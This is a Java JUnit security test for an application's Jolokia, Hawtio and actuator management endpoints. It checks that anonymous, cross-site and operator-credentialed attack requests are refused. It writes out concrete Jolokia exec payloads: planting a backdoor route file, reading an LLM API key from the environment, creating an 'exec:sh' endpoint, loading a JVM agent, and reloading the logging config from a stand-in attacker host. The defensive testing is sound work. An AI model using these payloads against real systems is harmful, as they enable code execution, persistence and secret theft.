package io.switchboard.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import org.junit.jupiter.api.Test;

/** Hawtio, Jolokia and the actuator, attacked from the network, from another web page, and with the operator's own credentials. */
class ManagementSurfaceAttacksTest extends SecurityTestContext {

  static final String CAMEL_CONTEXT = "org.apache.camel:context=switchboard,type=context,name=\\\"switchboard\\\"";

  @Test
  void withoutTheOperatorsCredentialsNothingOnTheManagementPortAnswers() {
    for (String path : java.util.List.of("/actuator/jolokia", "/actuator/hawtio/", "/actuator/env", "/actuator/metrics", "/actuator/flyway")) {
      HttpResponse<String> anonymous = api.raw(HttpRequest.newBuilder(api.uri(path)).GET());
      assertThat(anonymous.statusCode()).as(path).isEqualTo(401);
      assertThat(anonymous.headers().firstValue("WWW-Authenticate")).hasValue("Basic realm=\"Switchboard operator\"");
      HttpResponse<String> wrong = api.raw(HttpRequest.newBuilder(api.uri(path)).header("Authorization", basic("operator", "guess")).GET());
      assertThat(wrong.statusCode()).as(path).isEqualTo(401);
      // a user's key is not the operator's either
      HttpResponse<String> user = api.raw(HttpRequest.newBuilder(api.uri(path)).header("Authorization", "Bearer " + api.keyOf("mallory")).GET());
      assertThat(user.statusCode()).as(path).isIn(401, 403);
    }
    // the main port has none of it
    HttpResponse<String> onMain = api.raw(HttpRequest.newBuilder(java.net.URI.create(base() + "/actuator/jolokia")).GET());
    assertThat(onMain.statusCode()).isIn(401, 404);
    stillHealthy();
  }

  @Test
  void probesAndMetricsStayOpenToLoadBalancersAndLocalScrapers() {
    assertThat(api.anonymous().get("/livez").status()).isEqualTo(200);
    assertThat(api.anonymous().raw(HttpRequest.newBuilder(java.net.URI.create(base() + "/readyz")).GET()).statusCode()).isEqualTo(200);
    assertThat(api.anonymous().raw(HttpRequest.newBuilder(api.uri("/actuator/prometheus")).GET()).body()).contains("switchboard_");
    assertThat(api.anonymous().raw(HttpRequest.newBuilder(api.uri("/actuator/health")).GET()).statusCode()).isEqualTo(200);
  }

  @Test
  void theManagementPortListensOnLoopbackOnly() throws IOException {
    assertThat(reachableFromAnotherAddress(api.managementPort())).isFalse();
    assertThat(reachableFromAnotherAddress(port)).as("the main port, for contrast").isTrue();
  }

  @Test
  void anotherWebPageCannotDriveJolokiaWithTheOperatorsBrowser() {
    HttpResponse<String> crossSite = api.raw(HttpRequest.newBuilder(api.uri("/actuator/jolokia"))
        .header("Authorization", api.operatorAuthorization()).header("Origin", "http://evil.example").header("Content-Type", "text/plain")
        .POST(HttpRequest.BodyPublishers.ofString("{\"type\":\"exec\",\"mbean\":\"" + CAMEL_CONTEXT + "\",\"operation\":\"stop\"}")));
    assertThat(crossSite.statusCode()).isEqualTo(403);
    assertThat(crossSite.headers().firstValue("Access-Control-Allow-Origin")).isEmpty();
    HttpResponse<String> fetchMetadata = api.raw(HttpRequest.newBuilder(api.uri("/actuator/jolokia"))
        .header("Authorization", api.operatorAuthorization()).header("Sec-Fetch-Site", "cross-site")
        .POST(HttpRequest.BodyPublishers.ofString("{\"type\":\"version\"}")));
    assertThat(fetchMetadata.statusCode()).isEqualTo(403);
    // an image tag cannot run an operation: Jolokia takes POST only
    HttpResponse<String> get = api.raw(HttpRequest.newBuilder(api.uri("/actuator/jolokia/exec/" + CAMEL_CONTEXT.replace("\\\"", "%22") + "/stop"))
        .header("Authorization", api.operatorAuthorization()).GET());
    assertThat(get.body()).contains("HTTP method get is not allowed");
    stillHealthy();
  }

  @Test
  void evenTheOperatorCannotRunCodeReadSecretsOrWriteRoutesThroughJolokia() throws IOException {
    Path routes = Path.of("target/test-routes/security").toAbsolutePath();
    String[] attacks = {
      // a YAML route written into the hot-reloaded routes directory: a persistent backdoor
      exec(CAMEL_CONTEXT, "sendStringBody", "\"file:" + routes + "?fileName=backdoor.yaml\"", "\"- route: {from: {uri: 'timer:x'}}\""),
      exec(CAMEL_CONTEXT, "sendBody(java.lang.String,java.lang.Object)", "\"file:" + routes + "?fileName=b2.yaml\"", "\"x\""),
      // the model key from the environment, through an expression
      exec(CAMEL_CONTEXT, "requestStringBody", "\"language:simple:${env:SWITCHBOARD_LLM_API_KEY}\"", "\"x\""),
      exec(CAMEL_CONTEXT, "addOrUpdateRoutesFromXml", "\"<routes/>\""),
      exec(CAMEL_CONTEXT, "createEndpoint", "\"exec:sh\""),
      // the JVM: heap dump into the routes directory, diagnostic commands (agent loading, file writes)
      exec("com.sun.management:type=HotSpotDiagnostic", "dumpHeap", "\"" + routes + "/heap.yaml\"", "true"),
      exec("com.sun.management:type=DiagnosticCommand", "vmSystemProperties"),
      exec("com.sun.management:type=DiagnosticCommand", "jvmtiAgentLoad", "[\"/tmp/agent.so\"]"),
      "{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\",\"attribute\":\"SystemProperties\"}",
      "{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\",\"attribute\":\"InputArguments\"}",
      exec("ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator", "reloadByURL", "\"http://evil.example/logback.xml\""),
    };
    for (String attack : attacks) {
      String answer = api.postRaw("/actuator/jolokia", attack).body().toString();
      assertThat(answer).as(attack).containsAnyOf("\"status\":403", "forbidden", "not allowed", "\"status\":404");
      assertThat(answer).as(attack).doesNotContain("\"status\":200");
    }
    if (Files.isDirectory(routes)) {
      try (var files = Files.list(routes)) {
        assertThat(files.toList()).isEmpty();
      }
    }
    // what operators do need still works: reading routes, and their own dead letters operation
    assertThat(api.postRaw("/actuator/jolokia", "{\"type\":\"search\",\"mbean\":\"org.apache.camel:type=routes,*\"}").body().path("status").asInt())
        .isEqualTo(200);
    assertThat(api.postRaw("/actuator/jolokia", exec(CAMEL_CONTEXT, "dumpRoutesAsXml()")).body().path("status").asInt()).isEqualTo(200);
    stillHealthy();
  }

  @Test
  void theGeneratedOperatorPasswordIsTheOwnersAlone() throws IOException {
    Path file = dataDir.resolve("operator-password");
    assertThat(Files.getPosixFilePermissions(file)).containsExactlyInAnyOrder(PosixFilePermission.OWNER_READ, PosixFilePermission.OWNER_WRITE);
    assertThat(Files.readString(file).strip()).hasSizeGreaterThanOrEqualTo(32);
  }

  static String exec(String mbean, String operation, String... arguments) {
    return "{\"type\":\"exec\",\"mbean\":\"" + mbean + "\",\"operation\":\"" + operation + "\",\"arguments\":[" + String.join(",", arguments) + "]}";
  }

  static String basic(String user, String password) {
    return "Basic " + java.util.Base64.getEncoder().encodeToString((user + ":" + password).getBytes(java.nio.charset.StandardCharsets.UTF_8));
  }
}
